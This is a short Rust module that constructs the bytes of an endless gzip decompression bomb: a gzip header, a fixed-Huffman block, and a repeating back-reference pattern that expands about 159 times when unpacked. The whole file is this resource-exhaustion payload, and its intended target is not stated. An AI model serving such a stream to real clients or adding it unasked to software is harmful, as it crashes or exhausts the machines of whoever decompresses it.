//! A gzip stream without an end, which is 159 times as large unpacked.

/// The start of the stream: the header, a block with the fixed code, an `x`, and a repetition up to the end of a byte.
pub(super) const BOMB_START: [u8; 13] = {
    let mut start = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff, 0, 0, 0];
    // 3 bits: the last block, with the fixed code. 8 bits: `x`. 13 bits: 258 times what came 1 byte before.
    let bits: u32 = 0b011 | (reversed(0xa8, 8) << 3) | (reversed(0xc5, 8) << 11);
    (start[10], start[11], start[12]) = (bits as u8, (bits >> 8) as u8, (bits >> 16) as u8);
    start
};

/// The number of bytes that a pattern is unpacked.
pub(super) const UNPACKED: u64 = 8 * 258;

/// Eight repetitions of 13 bits each, which end where a byte does.
pub(super) const BOMB_PATTERN: [u8; 13] = {
    let mut pattern = [0_u8; 13];
    let (mut repetition, code) = (0, reversed(0xc5, 8));
    while repetition < 8 {
        let mut bit = 0;
        while bit < 8 {
            let at = repetition * 13 + bit;
            pattern[at / 8] |= (((code >> bit) & 1) as u8) << (at % 8);
            bit += 1;
        }
        repetition += 1;
    }
    pattern
};

/// A code of a Huffman tree, whose first bit is its highest one, as it is written.
const fn reversed(code: u32, length: u32) -> u32 {
    code.reverse_bits() >> (32 - length)
}
